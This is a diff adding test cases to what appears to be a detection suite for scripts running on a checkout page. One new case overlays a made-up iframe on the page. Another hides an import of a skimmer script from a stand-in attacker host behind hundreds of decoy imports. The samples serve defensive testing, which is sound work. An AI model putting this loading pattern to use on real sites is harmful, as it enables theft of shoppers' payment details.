@@ -96,6 +96,16 @@ describe('a script that the owner has authorised', () => {
       ['/checkout/ frame-added about:', '/checkout/ form-added https://evil.example'],
     ],
     [
+      'is noticed when it puts a frame over the page whose text it made up',
+      "document.body.append(Object.assign(document.createElement('iframe'), { src: URL.createObjectURL(new Blob(['x'])) }));",
+      ['/checkout/ frame-added blob:'],
+    ],
+    [
+      'cannot hide what it loads behind a crowd of what it may load',
+      "const { src } = document.querySelector('script[src^=http]'); const all = Array.from({ length: 520 }, (_, i) => import(new URL(`/more.js?${i}`, src)).catch(() => {})); Promise.all(all).then(() => import('https://evil.example/skim.js'));",
+      ['/checkout/ script-loaded about:'],
+    ],
+    [
       'is noticed when it leads away',
       "setTimeout(() => { location.href = '/checkout/done/'; });",
       ['/checkout/ led-away /checkout/done/'],
